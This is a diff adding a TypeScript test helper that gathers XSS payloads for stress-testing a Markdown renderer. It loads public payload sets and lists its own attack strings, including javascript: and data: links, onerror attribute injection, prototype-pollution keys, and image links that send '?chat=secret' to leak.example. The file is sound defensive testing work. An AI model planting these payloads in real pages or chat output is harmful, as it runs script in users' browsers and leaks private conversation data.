@@ -1,0 +1,69 @@
+import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { isObject, listOf } from '@/lib/responses/guards'
+import { projectRoot } from '../../support/next-server'
+
+/**
+ * The location of larger sets: `{ "items": [...] }` of texts, or of objects that contain one. The long form uses all.
+ */
+const elsewhere = process.env['PAYLOADS']
+
+/** Whether to try all sets in all ways, which takes minutes. */
+export const isLong = elsewhere !== undefined
+
+const sets: ReadonlySet<string> = new Set([
+  'h5sc.json',
+  'dompurify-fixtures.json',
+  'patt-xss.json',
+  'blns.json',
+  'mermaid-xss.json',
+])
+
+/** What the sets lack: leaks that only Markdown allows, and names that every object has by default. */
+const ours: readonly string[] = [
+  '[click](javascript:alert(1))',
+  '[click](JaVaScRiPt&colon;alert(1))',
+  '[click](java\nscript:alert(1))',
+  '[click](\u0001javascript:alert(1))',
+  '[click](data:text/html,<script>alert(1)</script>)',
+  '[click](vbscript:alert(1))',
+  '[click](blob:https://leak.example/x)',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '![x](https://leak.example/?chat=secret)',
+  '![x](//leak.example/y)',
+  '[![x](https://leak.example/z.png)](https://leak.example)',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
+  '![a"onerror="alert(1)](https://leak.example "b"onload="alert(1)")',
+  '```html"><img/src=x/onerror=alert(1)>\n<script>alert(1)</script>\n```',
+  '[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: <script>alert(1)</script>',
+  '[^__proto__] [^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b',
+  '[__proto__] [constructor] [toString]\n\n[__proto__]: https://a.example\n[constructor]: https://b.example',
+  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '<link rel="preconnect" href="https://leak.example"><link rel=dns-prefetch href=//leak.example>',
+]
+
+/** All payloads, each once. */
+export function readPayloads(): readonly string[] {
+  const directories = [
+    join(projectRoot, 'e2e/stress/payloads/sets'),
+    ...(elsewhere === undefined ? [] : [elsewhere]),
+  ]
+  const files = directories
+    .filter((path) => existsSync(path))
+    .flatMap((path) => readdirSync(path).map((name) => [path, name] as const))
+  const found = files
+    .filter(([, name]) => sets.has(name))
+    .flatMap(([path, name]) => textsOf(readFileSync(join(path, name), 'utf8')))
+  return [...new Set([...ours, ...found])].filter((text) => text.trim() !== '')
+}
+
+function textsOf(file: string): readonly string[] {
+  const read: unknown = JSON.parse(file)
+  return listOf(isObject(read) ? read['items'] : read).flatMap((item) => {
+    const text = isObject(item) ? (item['data'] ?? item['payload'] ?? item['diagram']) : item
+    return typeof text === 'string' ? [text] : []
+  })
+}
